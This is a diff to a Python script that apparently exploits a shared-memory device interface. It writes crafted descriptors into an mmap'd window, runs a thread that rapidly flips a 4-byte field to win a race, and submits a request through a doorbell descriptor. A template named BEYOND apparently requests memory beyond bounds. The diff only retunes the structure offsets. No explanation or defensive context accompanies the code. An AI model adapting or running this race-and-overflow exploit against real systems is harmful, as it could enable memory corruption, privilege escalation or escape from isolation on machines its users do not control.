@@ -126,13 +126,13 @@ window = mmap.mmap(WINDOW, 1 << 20)
 send = struct.pack("<QIBBH12IHHBBHII", 0, 0, 1, 0, 1, 0x80000, 4, *[0] * 10,
                    1, 0, 0, 1, 0, 0, 0)
 for i in range(1024):
-    window[608 + 80 * i:608 + 80 * i + len(send)] = send
+    window[616 + 80 * i:616 + 80 * i + len(send)] = send
 queued = bytes(4)
 def flip():
     while True:
-        window[424:428] = queued
-        window[424:428] = b"\\0\\0\\0\\x80"
-        window[424:428] = queued
+        window[432:436] = queued
+        window[432:436] = b"\\0\\0\\0\\x80"
+        window[432:436] = queued
         for _ in range(20):
             pass
 threading.Thread(target=flip, daemon=True).start()
@@ -163,8 +163,8 @@ BEYOND = """
 window = mmap.mmap(WINDOW, 1 << 20)
 send = struct.pack("<QIBBH12IHHBBHII", 0, 0, 1, 0, 1, {head}, {shared},
                    *[0] * 8, 1, 0, 0, 1, 0, 0, 0)
-window[608:608 + len(send)] = send
-window[424:428] = struct.pack("<I", 1)
+window[616:616 + len(send)] = send
+window[432:436] = struct.pack("<I", 1)
 window[112:144] = struct.pack("<QIIIIII", 0, 1, 1, 0x80000, 4096, 0, 1)
 os.write(DOORBELL, b"!")
 time.sleep(1000)
